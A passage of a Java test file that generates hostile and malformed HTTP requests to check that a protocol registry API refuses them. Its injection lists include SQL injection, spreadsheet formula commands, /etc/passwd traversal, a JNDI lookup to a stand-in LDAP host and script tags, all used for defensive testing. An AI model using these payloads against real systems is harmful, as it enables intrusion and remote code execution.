package org.protocolregistry.api;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.Supplier;
import java.util.regex.Pattern;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.fasterxml.jackson.dataformat.csv.CsvMapper;
import com.fasterxml.jackson.dataformat.csv.CsvParser;

import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.Tuple;

import org.protocolregistry.api.HostileFixture.Caller;
import org.protocolregistry.api.HostileFixture.Target;
import org.protocolregistry.testing.Examples;
import org.protocolregistry.testing.ProtocolApi;
import org.protocolregistry.testing.RawHttp;

/**
 * Generators of hostile and malformed requests for every write and search endpoint, each with
 * the answer it must get. Every request carries exactly one fault on an otherwise valid
 * request, so the expected status is known; requests that are hostile in spirit but valid (a
 * search for {@code ' OR 1=1 --}) must answer 200 and show the caller nothing it may not see.
 */
final class HostileRequests {

    /** The endpoints under test, named as in the access matrix. */
    enum Endpoint {
        CREATE, REPLACE, VALIDATE, SUBMIT, REVIEW, LIST_REVIEWS, AMEND, WITHDRAW, REVALIDATE, DIFF, VERSIONS, VERSION,
        READ, SEARCH, STATS, EXPORT_CSV, EXPORT_NDJSON, FHIR, HISTORY, AUDIT, RULES, RULE
    }

    /** What a request must get back. */
    sealed interface Expectation permits Refused, RefusedByHttpServer, Harmless {
    }

    /** A problem+json answer with one of these statuses. */
    record Refused(Set<Integer> statuses) implements Expectation {
    }

    /**
     * Refused by the HTTP server before the application sees the request (a request target
     * that is not a URI, a request line or header block over the server's limits): the status,
     * with an empty body.
     */
    record RefusedByHttpServer(int status) implements Expectation {
    }

    /** A valid request, however odd: 200, and the check holds (nothing the caller may not see). */
    record Harmless(Check check) implements Expectation {
    }

    @FunctionalInterface
    interface Check {
        void verify(RawHttp.Response response) throws Exception;
    }

    /** One generated request. */
    record HostileRequest(String family, Endpoint endpoint, String fault, RawHttp.Request raw,
            Expectation expectation) {

        @Override
        public String toString() {
            var text = new StringBuilder(family).append(" / ").append(endpoint).append(" / ").append(fault)
                    .append('\n').append(raw.method()).append(' ').append(shorten(raw.target(), 300));
            raw.headers().forEach(header -> text.append("\n").append(header.name()).append(": ")
                    .append(shorten(header.value(), 200)));
            if (raw.body() != null) {
                text.append("\n[").append(raw.body().length).append(" bytes").append(raw.chunked() ? ", chunked" : "")
                        .append("] ").append(shorten(new String(raw.body(), StandardCharsets.UTF_8), 300));
            }
            return text.append("\nexpected: ").append(expectation).toString();
        }
    }

    static final String PROTOCOLS = ProtocolApi.PROTOCOLS;
    static final int BODY_LIMIT = RequestBodyLimit.MAX_BODY_BYTES;

    /** Strings an attacker tries first: SQL, LIKE wildcards, JSON Pointer and path tricks, formulas, templates. */
    static final List<String> INJECTIONS = List.of("' OR 1=1 --", "' OR '1'='1", "\" OR \"\"=\"", "1; DROP TABLE protocol; --",
            "'; SELECT pg_sleep(5); --", "%", "_", "\\", "%%", "%_%", "\\%", "\\_", "a%b_c\\d", "*", ".*", "[a-z]*",
            "=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1",
            "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "....//....//",
            "/registration/briefTitle", "#/registration", "~1~0", "/~2", "${jndi:ldap://x.example/a}", "{{7*7}}",
            "<script>alert(1)</script>", "\u202Egnp.exe", "a\u200Bb\u200Dc", "\uFEFFbom", "\uD83D\uDE00\uD83D\uDC8A",
            "\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627", "\uFFFD", "\uFFFF", "%00", "\\u0000", "null",
            "undefined", "true", "NaN", "-Infinity", "1e999999", "9".repeat(400), " ", "\t", "\u3000", "A".repeat(199));

    /** Bytes that are not UTF-8 (RFC 3629). */
    static final List<String> NOT_UTF8 = List.of("FF", "FE", "C0 AE", "C0 AF", "E0 80 AF", "ED A0 80", "ED BF BF",
            "F4 90 80 80", "F8 88 80 80 80", "FC 84 80 80 80 80", "E2 82", "80", "BF BF");

    /** Numbers no field can hold. */
    static final List<String> HUGE_NUMBERS = List.of("1e999999", "-1e999999", "1e-999999", "9".repeat(400),
            "-" + "9".repeat(400), "0." + "1".repeat(400), "1" + "0".repeat(5000), "1E+2147483648");

    /** Percent-encoded bytes that are not UTF-8 once decoded, sent as they are. */
    static final List<String> RAW_PERCENT = List.of("%FF", "%C0%AE", "%ED%A0%80", "%F4%90%80%80", "%2500",
            "%252e%252e%252f");

    private static final Pattern SANE_REQUEST_ID = Pattern.compile("[A-Za-z0-9._:~+/=-]{1,100}");
    private static final Pattern UUID = Pattern.compile("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}");
    private static final Pattern LEAK = Pattern.compile("(?i)exception|\\tat |caused by|stack ?trace|sqlstate"
            + "|\\b(java|javax|jakarta|jdk|org\\.hibernate|org\\.h2|org\\.postgresql|io\\.quarkus|io\\.vertx|io\\.netty"
            + "|io\\.smallrye|com\\.fasterxml|org\\.jboss|org\\.protocolregistry)\\.[a-z]");
    private static final JsonNodeFactory NODES = JsonNodeFactory.withExactBigDecimals(true);
    private static final String MARKER = "ZQXMARKERZQX";

    private final HostileFixture fixture;
    private final Supplier<HostileFixture.Snapshot> snapshot;
    private final JsonNode complete;
    private final JsonNode draft;

    HostileRequests(HostileFixture fixture, Supplier<HostileFixture.Snapshot> snapshot) {
        this.fixture = fixture;
        this.snapshot = snapshot;
        this.complete = ProtocolApi.json(Examples.bytes(Examples.FIBROMYALGIA));
        this.draft = ProtocolApi.json(Examples.bytes(Examples.NEUROPATHIC_DRAFT));
    }

    /** Every family, weighted so that bodies and queries, the richest inputs, get the most tries. */
    @SuppressWarnings("unchecked")
    Arbitrary<HostileRequest> all() {
        return Arbitraries.frequencyOf(
                Tuple.of(10, badTokens()),
                Tuple.of(6, wrongCallers()),
                Tuple.of(10, hostileIds()),
                Tuple.of(24, malformedBodies()),
                Tuple.of(15, invalidQueries()),
                Tuple.of(12, hostileButValidQueries()),
                Tuple.of(6, stalePreconditions()),
                Tuple.of(5, wrongMediaTypes()),
                Tuple.of(3, wrongMethods()),
                Tuple.of(3, wrongStates()),
                Tuple.of(2, refusedByTheHttpServer()),
                Tuple.of(6, harmlessReads()));
    }

    // ---- request building ----------------------------------------------------------------

    /** A request under construction. */
    static final class Spec {
        final Endpoint endpoint;
        String method;
        String path;
        final List<String> query = new ArrayList<>();
        final Map<String, String> headers = new LinkedHashMap<>();
        byte[] body;
        boolean chunked;

        Spec(Endpoint endpoint, String method, String path) {
            this.endpoint = endpoint;
            this.method = method;
            this.path = path;
        }

        Spec header(String name, String value) {
            if (value == null) {
                headers.remove(name);
            } else {
                headers.put(name, value);
            }
            return this;
        }

        Spec json(byte[] json) {
            body = json;
            return header("Content-Type", "application/json");
        }

        Spec param(String name, String value) {
            query.add(RawHttp.encode(name) + "=" + RawHttp.encode(value));
            return this;
        }

        RawHttp.Request build() {
            var headerList = new ArrayList<RawHttp.Header>();
            headers.forEach((name, value) -> headerList.add(new RawHttp.Header(name, value)));
            var target = query.isEmpty() ? path : path + "?" + String.join("&", query);
            return new RawHttp.Request(method, target, headerList, body, chunked);
        }
    }

    private String protocol(Target target) {
        return PROTOCOLS + "/" + fixture.id(target);
    }

    /** The valid request of each endpoint, by the caller it is valid for. */
    Spec base(Endpoint endpoint, Caller caller) {
        var spec = switch (endpoint) {
            case CREATE -> new Spec(endpoint, "POST", PROTOCOLS).json(bytes(draft));
            case REPLACE -> new Spec(endpoint, "PUT", protocol(Target.SUBMITTABLE_DRAFT)).json(changedDocument())
                    .header("If-Match", fixture.etags.get(Target.SUBMITTABLE_DRAFT));
            case VALIDATE -> new Spec(endpoint, "POST", "/api/v1/validate").json(bytes(complete));
            case SUBMIT -> new Spec(endpoint, "POST", protocol(Target.SUBMITTABLE_DRAFT) + "/submit");
            case REVIEW -> new Spec(endpoint, "POST", protocol(Target.SUBMITTED) + "/reviews").json(bytes(review()));
            case LIST_REVIEWS -> new Spec(endpoint, "GET", protocol(Target.SUBMITTED) + "/reviews");
            case AMEND -> new Spec(endpoint, "POST", protocol(Target.APPROVED) + "/amendments")
                    .header("Content-Type", "application/json");
            case WITHDRAW -> new Spec(endpoint, "POST", protocol(Target.SUBMITTABLE_DRAFT) + "/withdraw");
            case REVALIDATE -> new Spec(endpoint, "POST", protocol(Target.SUBMITTED) + "/versions/1/revalidate");
            case DIFF -> new Spec(endpoint, "GET", protocol(Target.SUBMITTED) + "/versions/1/diff/1");
            case VERSIONS -> new Spec(endpoint, "GET", protocol(Target.SUBMITTED) + "/versions");
            case VERSION -> new Spec(endpoint, "GET", protocol(Target.SUBMITTED) + "/versions/1");
            case READ -> new Spec(endpoint, "GET", protocol(Target.SUBMITTED));
            case SEARCH -> new Spec(endpoint, "GET", PROTOCOLS);
            case STATS -> new Spec(endpoint, "GET", "/api/v1/stats");
            case EXPORT_CSV -> new Spec(endpoint, "GET", PROTOCOLS).header("Accept", "text/csv");
            case EXPORT_NDJSON -> new Spec(endpoint, "GET", PROTOCOLS).header("Accept", "application/x-ndjson");
            case FHIR -> new Spec(endpoint, "GET", protocol(Target.SUBMITTED) + "/fhir");
            case HISTORY -> new Spec(endpoint, "GET", protocol(Target.SUBMITTED) + "/history");
            case AUDIT -> new Spec(endpoint, "GET", "/api/v1/audit/verify");
            case RULES -> new Spec(endpoint, "GET", "/api/v1/rules");
            case RULE -> new Spec(endpoint, "GET", "/api/v1/rules/DOSE-003");
        };
        return spec.header("Authorization", fixture.bearer(caller));
    }

    /** Who may send the base request of an endpoint. */
    static Caller allowedCaller(Endpoint endpoint) {
        return switch (endpoint) {
            case REVIEW, REVALIDATE -> Caller.REVIEWER;
            case AUDIT -> Caller.ADMIN;
            case VALIDATE, RULES, RULE -> Caller.VIEWER;
            default -> Caller.SPONSOR_A;
        };
    }

    /** Endpoints whose path names a protocol, and the protocol the base request names. */
    static final Map<Endpoint, Target> PROTOCOL_ENDPOINTS = Map.ofEntries(
            Map.entry(Endpoint.REPLACE, Target.SUBMITTABLE_DRAFT), Map.entry(Endpoint.SUBMIT, Target.SUBMITTABLE_DRAFT),
            Map.entry(Endpoint.REVIEW, Target.SUBMITTED), Map.entry(Endpoint.LIST_REVIEWS, Target.SUBMITTED),
            Map.entry(Endpoint.AMEND, Target.APPROVED), Map.entry(Endpoint.WITHDRAW, Target.SUBMITTABLE_DRAFT),
            Map.entry(Endpoint.REVALIDATE, Target.SUBMITTED), Map.entry(Endpoint.DIFF, Target.SUBMITTED),
            Map.entry(Endpoint.VERSIONS, Target.SUBMITTED), Map.entry(Endpoint.VERSION, Target.SUBMITTED),
            Map.entry(Endpoint.READ, Target.SUBMITTED), Map.entry(Endpoint.FHIR, Target.SUBMITTED),
            Map.entry(Endpoint.HISTORY, Target.SUBMITTED));

    static final List<Endpoint> BODY_ENDPOINTS = List.of(Endpoint.CREATE, Endpoint.REPLACE, Endpoint.VALIDATE,
            Endpoint.REVIEW, Endpoint.AMEND);
    static final List<Endpoint> SEARCH_ENDPOINTS = List.of(Endpoint.SEARCH, Endpoint.STATS, Endpoint.EXPORT_CSV,
            Endpoint.EXPORT_NDJSON);

    private HostileRequest request(String family, String fault, Spec spec, Expectation expectation, Random random) {
        decorate(spec, random);
        return new HostileRequest(family, spec.endpoint, fault, spec.build(), expectation);
    }

    private static Refused refused(Integer... statuses) {
        return new Refused(Set.of(statuses));
    }

    /**
     * Harmless extras on any request: an odd request id and headers a proxy or a browser might
     * add. None may change the answer.
     */
    private static void decorate(Spec spec, Random random) {
        if (random.nextInt(4) == 0) {
            spec.header("X-Request-Id", random.nextBoolean() ? pick(random, INJECTIONS).replace('\r', ' ')
                    .replace('\t', ' ') : "trace-" + Long.toHexString(random.nextLong()));
        }
        if (random.nextInt(5) == 0) {
            spec.header("X-HTTP-Method-Override", "DELETE").header("X-Forwarded-For", "' OR 1=1 --")
                    .header("Accept-Language", "*;q=garbage").header("Cookie", "session=../../etc/passwd")
                    .header("Origin", "https://evil.example");
        }
    }

    // ---- bad tokens ----------------------------------------------------------------------

    Arbitrary<HostileRequest> badTokens() {
        return Combinators.combine(Arbitraries.of(Endpoint.values()),
                Arbitraries.of(List.copyOf(fixture.badAuthorizations.keySet())), Arbitraries.randoms())
                .as((endpoint, label, random) -> request("bad token", label,
                        base(endpoint, allowedCaller(endpoint))
                                .header("Authorization", fixture.badAuthorizations.get(label)),
                        refused(401), random));
    }

    // ---- valid tokens, wrong callers -----------------------------------------------------

    private record WrongCaller(Endpoint endpoint, Caller caller, int status) {
    }

    Arbitrary<HostileRequest> wrongCallers() {
        var cases = new ArrayList<WrongCaller>();
        for (var endpoint : List.of(Endpoint.REPLACE, Endpoint.SUBMIT, Endpoint.WITHDRAW, Endpoint.AMEND, Endpoint.READ,
                Endpoint.VERSIONS, Endpoint.VERSION, Endpoint.DIFF, Endpoint.HISTORY, Endpoint.FHIR,
                Endpoint.LIST_REVIEWS)) {
            cases.add(new WrongCaller(endpoint, Caller.SPONSOR_B, 404));
        }
        for (var endpoint : List.of(Endpoint.REVIEW, Endpoint.REVALIDATE, Endpoint.AUDIT)) {
            cases.add(new WrongCaller(endpoint, Caller.SPONSOR_A, 403));
        }
        for (var endpoint : List.of(Endpoint.CREATE, Endpoint.REPLACE, Endpoint.SUBMIT, Endpoint.WITHDRAW,
                Endpoint.AMEND, Endpoint.REVIEW, Endpoint.REVALIDATE, Endpoint.HISTORY, Endpoint.LIST_REVIEWS,
                Endpoint.AUDIT)) {
            cases.add(new WrongCaller(endpoint, Caller.VIEWER, 403));
        }
        for (var endpoint : List.of(Endpoint.READ, Endpoint.VERSIONS, Endpoint.VERSION, Endpoint.FHIR,
                Endpoint.DIFF)) {
            cases.add(new WrongCaller(endpoint, Caller.VIEWER, 404));
        }
        for (var endpoint : List.of(Endpoint.CREATE, Endpoint.REPLACE, Endpoint.SUBMIT, Endpoint.WITHDRAW,
                Endpoint.AMEND, Endpoint.AUDIT)) {
            cases.add(new WrongCaller(endpoint, Caller.REVIEWER, 403));
        }
        for (var endpoint : List.of(Endpoint.CREATE, Endpoint.REPLACE, Endpoint.SUBMIT, Endpoint.WITHDRAW,
                Endpoint.AMEND, Endpoint.REVIEW)) {
            cases.add(new WrongCaller(endpoint, Caller.ADMIN, 403));
        }
        cases.add(new WrongCaller(Endpoint.CREATE, Caller.SPONSOR_WITHOUT_ORG, 403));
        for (var endpoint : List.of(Endpoint.REPLACE, Endpoint.SUBMIT, Endpoint.WITHDRAW, Endpoint.READ)) {
            cases.add(new WrongCaller(endpoint, Caller.SPONSOR_WITHOUT_ORG, 404));
        }
        for (var endpoint : Endpoint.values()) {
            cases.add(new WrongCaller(endpoint, Caller.NO_ROLE, 403));
        }
        return Combinators.combine(Arbitraries.of(cases), Arbitraries.randoms())
                .as((wrong, random) -> request("wrong caller", wrong.caller().name(),
                        base(wrong.endpoint(), wrong.caller()), refused(wrong.status()), random));
    }

    // ---- hostile ids in the path ---------------------------------------------------------

    Arbitrary<String> hostileStrings() {
        return Arbitraries.oneOf(
                Arbitraries.of(INJECTIONS),
                Arbitraries.strings().all().ofMinLength(1).ofMaxLength(24),
                Arbitraries.strings().withCharRange('\u0080', '\uFFFF').ofMinLength(1).ofMaxLength(12),
                Arbitraries.strings().withCharRange(' ', '~').ofMinLength(1).ofMaxLength(40),
                Arbitraries.integers().between(1, 900).map("x"::repeat));
    }

    Arbitrary<HostileRequest> hostileIds() {
        var ids = Arbitraries.oneOf(hostileStrings(), Arbitraries.of(idLookalikes()))
                .filter(id -> !id.isEmpty() && !id.equals(".") && !id.equals("..") && !fixture.ids.containsValue(id));
        var protocolIds = Combinators.combine(Arbitraries.of(List.copyOf(PROTOCOL_ENDPOINTS.keySet())), ids,
                Arbitraries.randoms()).as((endpoint, id, random) -> {
                    var spec = base(endpoint, allowedCaller(endpoint));
                    spec.path = spec.path.replace(fixture.id(PROTOCOL_ENDPOINTS.get(endpoint)), RawHttp.encode(id));
                    return request("hostile id", "protocol id", spec, refused(id.indexOf('\0') >= 0 ? 400 : 404),
                            random);
                });
        var versions = Arbitraries.oneOf(Arbitraries.of("0", "2", "-1", "999999999", "4294967297", "1e3", "1.0",
                "0x1", "1 OR 1=1", "1;DROP", "%", "١", "１"), hostileStrings()
                .filter(version -> !version.matches("0*1")));
        var versionIds = Combinators.combine(Arbitraries.of(Endpoint.VERSION, Endpoint.REVALIDATE, Endpoint.DIFF),
                versions, Arbitraries.randoms()).as((endpoint, version, random) -> {
                    var spec = base(endpoint, allowedCaller(endpoint));
                    spec.path = spec.path.replaceFirst("/versions/1", "/versions/" + RawHttp.encode(version));
                    return request("hostile id", "version number", spec, refused(version.indexOf('\0') >= 0 ? 400 : 404),
                            random);
                });
        var ruleIds = Combinators.combine(hostileStrings().filter(id -> !id.equals(".") && !id.equals("..")),
                Arbitraries.randoms()).as((id, random) -> {
                    var spec = base(Endpoint.RULE, Caller.VIEWER);
                    spec.path = "/api/v1/rules/" + RawHttp.encode(id);
                    return request("hostile id", "rule id", spec, refused(id.indexOf('\0') >= 0 ? 400 : 404), random);
                });
        return Arbitraries.frequencyOf(Tuple.of(6, protocolIds), Tuple.of(2, versionIds), Tuple.of(1, ruleIds));
    }

    /** Ids that look like a real one: case changed, padded, one character off, invisible characters added. */
    private List<String> idLookalikes() {
        var real = fixture.id(Target.SUBMITTABLE_DRAFT);
        return List.of(real.toUpperCase(), real + " ", " " + real, real + "\u200B", "\u202E" + real,
                real.substring(0, 35) + (real.charAt(35) == 'a' ? 'b' : 'a'), real.substring(0, 35),
                real + real, real.replace('-', '_'), "00000000-0000-0000-0000-000000000000", real + "' OR '1'='1",
                real + "%", "%" + real.substring(1), real + "\u0000", real.replace("-", ""));
    }

    // ---- malformed bodies ----------------------------------------------------------------

    enum BodyFault {
        TRUNCATED, WRONG_TYPE, HUGE_NUMBER, DEEP_NESTING, NOT_UTF8, RAW_NUL, ESCAPED_NUL, LONE_SURROGATE,
        DUPLICATE_KEY, TRAILING_CONTENT, UNKNOWN_PROPERTY, NOT_AN_OBJECT, TOO_MANY_ELEMENTS, OVER_LIMIT,
        OVER_LIMIT_CHUNKED, NEAR_LIMIT_BROKEN, UNRESOLVABLE_POINTER, BAD_REVIEW_FIELD, REVIEWED_VERSION_MISMATCH
    }

    private static final List<BodyFault> REVIEW_ONLY = List.of(BodyFault.UNRESOLVABLE_POINTER,
            BodyFault.BAD_REVIEW_FIELD, BodyFault.REVIEWED_VERSION_MISMATCH);

    /** Bodies of about 1 MiB cost the most time, so they come up less often than the other faults. */
    private static final List<BodyFault> MEBIBYTE_BODIES = List.of(BodyFault.OVER_LIMIT, BodyFault.OVER_LIMIT_CHUNKED,
            BodyFault.NEAR_LIMIT_BROKEN);

    Arbitrary<HostileRequest> malformedBodies() {
        return Arbitraries.of(BODY_ENDPOINTS).flatMap(endpoint -> Combinators.combine(
                faultsFor(endpoint), Arbitraries.randoms()).as((fault, random) -> malformedBody(endpoint, fault, random)));
    }

    private static Arbitrary<BodyFault> faultsFor(Endpoint endpoint) {
        return Arbitraries.frequency(java.util.Arrays.stream(BodyFault.values())
                .filter(fault -> endpoint == Endpoint.REVIEW || !REVIEW_ONLY.contains(fault))
                .map(fault -> Tuple.of(MEBIBYTE_BODIES.contains(fault) ? 1 : 6, fault))
                .toList());
    }

    private HostileRequest malformedBody(Endpoint endpoint, BodyFault fault, Random random) {
        var spec = base(endpoint, allowedCaller(endpoint));
        JsonNode valid = endpoint == Endpoint.REVIEW ? review() : (random.nextBoolean() ? complete : draft).deepCopy();
        Expectation expected = refused(400);
        byte[] body;
        switch (fault) {
            case TRUNCATED -> {
                var whole = bytes(valid);
                body = java.util.Arrays.copyOf(whole, 1 + random.nextInt(lastIndexOf(whole, (byte) '}')));
            }
            case WRONG_TYPE -> body = bytes(replaceRandomValue(valid, random));
            case HUGE_NUMBER -> body = withRaw(valid, random, pick(random, HUGE_NUMBERS));
            case DEEP_NESTING -> body = random.nextInt(3) == 0
                    ? ("[".repeat(10_000) + "]".repeat(10_000)).getBytes(StandardCharsets.UTF_8)
                    : withRaw(valid, random, random.nextBoolean() ? "[".repeat(10_000) + "]".repeat(10_000)
                            : "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000));
            case NOT_UTF8 -> body = insideText(valid, random,
                    HexFormat.ofDelimiter(" ").parseHex(pick(random, NOT_UTF8)));
            case RAW_NUL -> body = random.nextBoolean() ? insideText(valid, random, new byte[] {0})
                    : concat(bytes(valid), new byte[] {0});
            case ESCAPED_NUL -> body = insideText(valid, random, "\\u0000".getBytes(StandardCharsets.US_ASCII));
            case LONE_SURROGATE -> body = insideText(valid, random, pick(random, List.of("\\ud800", "\\udfff",
                    "\\udc00\\ud800", "\\ud83d", "x\\ude00")).getBytes(StandardCharsets.US_ASCII));
            case DUPLICATE_KEY -> {
                var text = new String(bytes(valid), StandardCharsets.UTF_8);
                var first = valid.fieldNames().next();
                body = ("{\"" + first + "\":" + valid.get(first) + "," + text.substring(1))
                        .getBytes(StandardCharsets.UTF_8);
            }
            case TRAILING_CONTENT -> body = concat(bytes(valid), pick(random, List.of("x", "{}", ",", "]", "\"",
                    " // comment", "<!--", " null", "\n{\"registration\":{}}")).getBytes(StandardCharsets.UTF_8));
            case UNKNOWN_PROPERTY -> {
                var name = pick(random, List.of("__proto__", "constructor", "$where", "registration/briefTitle",
                        "", "Registration", "briefTitle", "' OR 1=1 --", "\u202Eregistration", "x".repeat(5000)));
                var objects = objectsOf(valid);
                var object = (ObjectNode) objects.get(random.nextInt(objects.size()));
                object.put(object.has(name) ? "x-" + name : name, "injected");
                body = bytes(valid);
            }
            case NOT_AN_OBJECT -> body = pick(random, List.of("[]", "[{}]", "\"text\"", "123", "null", "true", " ",
                    "\r\n", "{", "}", "{}}", "'single'", "{'registration':{}}", "NaN", "undefined",
                    "<protocol/>", "registration.briefTitle=x")).getBytes(StandardCharsets.UTF_8);
            case TOO_MANY_ELEMENTS -> {
                var list = NODES.arrayNode();
                for (int i = 0; i <= StrictJson.MAX_LIST_ELEMENTS; i++) {
                    list.add(endpoint == Endpoint.REVIEW ? comment("/registration/briefTitle", "c") : NODES.textNode("US"));
                }
                if (endpoint == Endpoint.REVIEW) {
                    ((ObjectNode) valid).set("comments", list);
                } else {
                    ((ObjectNode) valid.get("registration")).set("countries", list);
                }
                body = bytes(valid);
            }
            case OVER_LIMIT, OVER_LIMIT_CHUNKED -> {
                body = padded(valid, BODY_LIMIT + 1 + random.nextInt(4096), random);
                spec.chunked = fault == BodyFault.OVER_LIMIT_CHUNKED;
                expected = refused(413);
            }
            case NEAR_LIMIT_BROKEN -> {
                var near = padded(valid, BODY_LIMIT - random.nextInt(64), random);
                body = java.util.Arrays.copyOf(near, near.length - 1 - random.nextInt(3));
            }
            case UNRESOLVABLE_POINTER -> {
                var comments = NODES.arrayNode();
                comments.add(comment("/registration/briefTitle", "fine"));
                comments.add(comment(pick(random, List.of("/nope", "/registration/briefTitle/x",
                        "/outcomeMeasures/99", "/outcomeMeasures/-", "/outcomeMeasures/01", "#/registration",
                        "registration", "/registration~2", "/~1etc~1passwd", "/../../etc/passwd",
                        "/registration/../dosing", "", " ", "/registration/briefTitle ", "/Registration",
                        "/" + "a/".repeat(5000), "/\u202Eregistration", "/dosing/initialDoseMg/0",
                        "/outcomeMeasures/99999999999999999999")), "where?"));
                ((ObjectNode) valid).set("comments", comments);
                body = bytes(valid);
            }
            case BAD_REVIEW_FIELD -> {
                var review = (ObjectNode) valid;
                switch (random.nextInt(6)) {
                    case 0 -> review.put("decision", pick(random, List.of("approve", "APPROVE' OR 1=1 --",
                            "DELETE", "", "APPROVED")));
                    case 1 -> review.remove("decision");
                    case 2 -> review.put("summary", "s".repeat(10_001 + random.nextInt(1000)));
                    case 3 -> review.set("comments", NODES.arrayNode().add(comment(null, "")));
                    case 4 -> review.set("comments", NODES.arrayNode().add(comment(null,
                            "t".repeat(5_001 + random.nextInt(1000)))));
                    default -> review.set("comments", NODES.arrayNode().add(NODES.nullNode()));
                }
                body = bytes(review);
            }
            case REVIEWED_VERSION_MISMATCH -> {
                ((ObjectNode) valid).put("version", pick(random, List.of(0, 2, -1, 999_999_999)));
                body = bytes(valid);
                expected = refused(409);
            }
            default -> throw new IllegalStateException(fault.name());
        }
        spec.body = body;
        return request("malformed body", fault.name(), spec, expected, random);
    }

    /**
     * Replaces a random non-null value (not the root) by a value of another JSON type, never null
     * (null is a valid draft value).
     */
    private static JsonNode replaceRandomValue(JsonNode root, Random random) {
        var slots = new ArrayList<Slot>();
        collectSlots(root, slots);
        var slot = slots.get(random.nextInt(slots.size()));
        var old = slot.value();
        var candidates = new ArrayList<JsonNode>();
        if (!old.isTextual()) {
            candidates.add(NODES.textNode("120"));
            candidates.add(NODES.textNode("true"));
            candidates.add(NODES.textNode(""));
        }
        if (!old.isNumber()) {
            candidates.add(NODES.numberNode(120));
            candidates.add(NODES.numberNode(new java.math.BigDecimal("2.5")));
        }
        if (!old.isBoolean()) {
            candidates.add(NODES.booleanNode(true));
        }
        if (!old.isObject()) {
            candidates.add(NODES.objectNode());
        }
        if (!old.isArray()) {
            candidates.add(NODES.arrayNode());
            candidates.add(NODES.arrayNode().add("x"));
        }
        slot.set(candidates.get(random.nextInt(candidates.size())));
        return root;
    }

    /** A place in the tree holding a non-null value. */
    private record Slot(JsonNode parent, String field, int index) {
        JsonNode value() {
            return field != null ? parent.get(field) : parent.get(index);
        }

        void set(JsonNode value) {
            if (field != null) {
                ((ObjectNode) parent).set(field, value);
            } else {
                ((ArrayNode) parent).set(index, value);
            }
        }
    }

    private static void collectSlots(JsonNode node, List<Slot> slots) {
        if (node.isObject()) {
            var names = new ArrayList<String>();
            node.fieldNames().forEachRemaining(names::add);
            for (var name : names) {
                if (!node.get(name).isNull()) {
                    slots.add(new Slot(node, name, -1));
                }
                collectSlots(node.get(name), slots);
            }
        } else if (node.isArray()) {
            for (int i = 0; i < node.size(); i++) {
                if (!node.get(i).isNull()) {
                    slots.add(new Slot(node, null, i));
                }
                collectSlots(node.get(i), slots);
            }
        }
    }

    private static List<JsonNode> objectsOf(JsonNode root) {
        var objects = new ArrayList<JsonNode>();
        collectObjects(root, objects);
        return objects;
    }

    private static void collectObjects(JsonNode node, List<JsonNode> objects) {
        if (node.isObject()) {
            objects.add(node);
        }
        node.forEach(child -> collectObjects(child, objects));
    }

    /** The document with a random value replaced by raw JSON text (a number or a nesting). */
    private static byte[] withRaw(JsonNode root, Random random, String rawJson) {
        replaceRandomSlot(root, random, NODES.textNode(MARKER));
        return new String(bytes(root), StandardCharsets.UTF_8).replace("\"" + MARKER + "\"", rawJson)
                .getBytes(StandardCharsets.UTF_8);
    }

    private static void replaceRandomSlot(JsonNode root, Random random, JsonNode value) {
        var slots = new ArrayList<Slot>();
        collectSlots(root, slots);
        slots.get(random.nextInt(slots.size())).set(value);
    }

    /** The document with these raw bytes inside a random text value. */
    private static byte[] insideText(JsonNode root, Random random, byte[] raw) {
        var slots = new ArrayList<Slot>();
        collectSlots(root, slots);
        var texts = slots.stream().filter(slot -> slot.value().isTextual()).toList();
        var slot = texts.get(random.nextInt(texts.size()));
        slot.set(NODES.textNode(slot.value().asText() + MARKER));
        var json = bytes(root);
        var at = indexOf(json, MARKER.getBytes(StandardCharsets.US_ASCII));
        var out = new ByteArrayOutputStream();
        out.write(json, 0, at);
        out.writeBytes(raw);
        out.write(json, at + MARKER.length(), json.length - at - MARKER.length());
        return out.toByteArray();
    }

    /** The document padded to exactly {@code size} bytes with a long, valid text value. */
    private static byte[] padded(JsonNode root, int size, Random random) {
        var object = (ObjectNode) (root.has("registration") ? root.get("registration") : root);
        var field = root.has("registration") ? pick(random, List.of("briefTitle", "officialTitle")) : "summary";
        object.put(field, MARKER);
        var json = new String(bytes(root), StandardCharsets.UTF_8);
        var fill = size - (json.getBytes(StandardCharsets.UTF_8).length - MARKER.length());
        var unit = pick(random, List.of("a", "é", "\uD83D\uDC8A", "\u202E", " "));
        var unitBytes = unit.getBytes(StandardCharsets.UTF_8).length;
        var text = unit.repeat(fill / unitBytes) + "a".repeat(fill % unitBytes);
        return json.replace(MARKER, text).getBytes(StandardCharsets.UTF_8);
    }

    private ObjectNode review() {
        var review = NODES.objectNode();
        review.put("decision", "REQUEST_CHANGES");
        review.put("summary", "' OR 1=1 -- =cmd|' /C calc'!A0 \u202E\u200B \uD83D\uDC8A");
        review.set("comments", NODES.arrayNode().add(comment("/registration/briefTitle", "Check the title.")));
        return review;
    }

    private static ObjectNode comment(String pointer, String text) {
        var comment = NODES.objectNode();
        if (pointer != null) {
            comment.put("pointer", pointer);
        }
        comment.put("text", text);
        return comment;
    }

    private byte[] changedDocument() {
        var changed = complete.deepCopy();
        ((ObjectNode) changed.get("registration")).put("briefTitle", "changed by a request that must not pass");
        return bytes(changed);
    }

    // ---- invalid query parameters --------------------------------------------------------

    enum QueryFault {
        UNKNOWN_NAME, BAD_CODE, BAD_BOOLEAN, BAD_RULE_ID, BAD_DOSE, DOSE_RANGE_INVERTED, BAD_TIME, BAD_PAGE_SIZE,
